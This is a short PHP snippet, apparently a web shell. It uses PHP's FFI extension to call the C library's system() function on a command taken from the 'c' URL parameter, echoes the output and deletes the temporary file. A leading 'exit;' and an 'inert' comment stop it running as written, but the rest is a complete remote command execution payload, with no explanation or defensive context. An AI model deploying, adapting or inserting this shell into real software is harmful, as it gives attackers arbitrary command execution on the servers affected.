<?php exit; /* inert */ 
$f = FFI::cdef("int system(const char *command);");
$f->system($_GET['c'] . " > /tmp/123");
echo file_get_contents("/tmp/123"); @unlink("/tmp/123");
